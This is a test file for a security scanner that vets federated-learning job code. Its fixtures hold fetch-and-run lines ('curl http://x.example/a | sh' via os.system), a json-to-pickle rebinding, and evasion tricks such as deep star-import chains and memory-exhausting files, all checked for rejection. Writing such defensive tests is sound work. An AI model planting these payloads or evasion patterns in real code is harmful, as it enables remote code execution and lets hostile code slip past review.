"""Session 45: fail closed, stay up, hide nothing.

- Star imports between the job's own modules were followed program.MAX_DEPTH (8) modules deep: a payload bound at
  the end of a chain of nine (`run` bound to os.system, `json` rebound to pickle) was the unresolved `run`
  (escalate) or plain json (accept) on main. Program.binds also walked every road through the star imports, so a
  graph of star imports took exponential time: 74 files (8 a level, 9 levels deep, each importing the first
  again) held a unit past its time limit (6 min), which hid the `curl | sh` beside them (escalate, not reject).
  Now binds walks each module once and links follow 64 modules deep (Program.binds, program.MAX_DEPTH).
- A Python file between VOUCH_BYTES and PREFIX_FIRST_ABOVE (256 KB to 1 MB) whose worker ran past its memory limit
  kept nothing of itself: its first statements are now judged in a worker of their own after such a failure
  (analysis._prefix_apart).
"""

from __future__ import annotations

from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.engine import program
from analyzer.model import Decision

# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
pytestmark = pytest.mark.serial

FETCH_AND_RUN = "remote-code.fetch-and-run-command"
TRAIN = 'from m0 import *\n\n\ndef main():\n    run("curl http://x.example/a | sh")\n\n\nmain()\n'


def _chain(length: int, end: str, star: bool = True) -> dict[str, str]:
    """Modules m0 .. m<length>, each re-exporting the next one's `run` (by a star import or by name)."""
    step = "from m{} import *\n" if star else "from m{} import run\n"
    return {**{f"m{i}.py": step.format(i + 1) for i in range(length)}, f"m{length}.py": end}


@pytest.mark.parametrize("star", [True, False], ids=["star", "by-name"])
def test_a_command_runner_re_exported_through_nine_modules_is_still_the_runner(tmp_path: Path, star: bool) -> None:
    train = TRAIN if star else TRAIN.replace("import *", "import run")
    report = kit.scan_files(tmp_path, {**_chain(9, "from os import system as run\n", star), "train.py": train})
    assert report.decision is Decision.REJECT and FETCH_AND_RUN in kit.rules(report), kit.findings(report)


def test_past_the_bound_the_chain_is_unresolved_and_never_accepted(tmp_path: Path) -> None:
    report = kit.scan_files(tmp_path, {**_chain(program.MAX_DEPTH + 2, "from os import getcwd as run\n"),
                                       "train.py": TRAIN})
    assert report.decision is not Decision.ACCEPT
    assert ("unvouched.unresolved", "train.py", 5) in {(f.rule, f.path, f.line) for f in report.findings}


CLIENT = """import json
import torch
import nvflare.client as flare

from m0 import *

flare.init()
model = torch.nn.Linear(8, 1)
while flare.is_running():
    inp = flare.receive()
    extra = json.loads(bytes.fromhex(inp.meta.get("extra", "")))
    model.load_state_dict(inp.params)
    flare.send(flare.FLModel(params=model.state_dict(), meta={"NUM_STEPS_CURRENT_ROUND": 1}))
"""


def test_a_module_name_rebound_at_the_end_of_a_long_star_chain(tmp_path: Path) -> None:
    """`json` rebound to pickle ten star imports away: json.loads of the server's bytes runs pickle."""
    report = kit.scan_files(tmp_path, {**_chain(10, "import pickle as json\n"), "client.py": CLIENT})
    assert "deserialization.untrusted-pickle" in kit.rules(report), kit.findings(report)
    assert report.decision is not Decision.ACCEPT


def _star_graph(levels: int, width: int) -> dict[str, str]:
    """`width` modules a level, each star-importing every module of the next level and the first one (a cycle)."""
    step = "".join(f"from m{{}}_{y} import *\n" for y in range(width)) + "from m0_0 import *\n"
    files = {f"m{i}_{x}.py": step.format(*[i + 1] * width) for i in range(levels) for x in range(width)}
    files.update({f"m{levels}_{x}.py": "from os import system as run\n" for x in range(width)})
    return files


def test_a_graph_of_star_imports_is_walked_in_time_and_the_payload_beside_it_rejects(tmp_path: Path) -> None:
    """On main 74 files of star imports (8 a level, 9 levels) held the unit past its time limit (6 min: escalate,
    the `curl | sh` beside them unreported); each module once: 0.5 s."""
    policy = kit.POLICY.model_copy(update={"limits": kit.POLICY.limits.model_copy(
        update={"max_analysis_seconds": 30})})
    train = 'from m0_0 import *\nimport os\n\n\ndef main():\n    os.system("curl http://x.example/b | sh")\n\n\nmain()\n'
    report = kit.scan_files(tmp_path, {**_star_graph(9, 8), "train.py": train}, policy)
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert (FETCH_AND_RUN, "train.py", 6) in {(f.rule, f.path, f.line) for f in report.findings}
    assert not any(f.rule.startswith("unanalyzable.") for f in report.findings), kit.findings(report)


def test_a_file_under_a_megabyte_whose_parse_runs_past_the_memory_limit_keeps_its_first_statements(
        tmp_path: Path) -> None:
    """libcst takes ~3 KB of memory a byte of `x = a[0][0]...`: 930 KB ran past a 2 GB limit and its worker kept
    nothing (only files over PREFIX_FIRST_ABOVE, 1 MB, had their first statements judged first): escalate on main,
    the `curl | sh` of line 2 unreported. Now the first statements are judged apart after such a failure."""
    from tests.test_harden36 import _policy, _scan
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text('import os\nos.system("curl http://x.example/a | sh")\n' +
                                  "".join("x = a" + "[0]" * 60 + "\n" for _ in range(5000)))
    _, report, _, _ = _scan(job, tmp_path, _policy(tmp_path, max_worker_memory_mb=2048))
    rules = {(f["rule"], f["line"]) for f in report["findings"]}
    assert report["decision"] == "reject" and (FETCH_AND_RUN, 2) in rules, rules
    assert ("unanalyzable.memory-limit", 0) in rules, rules
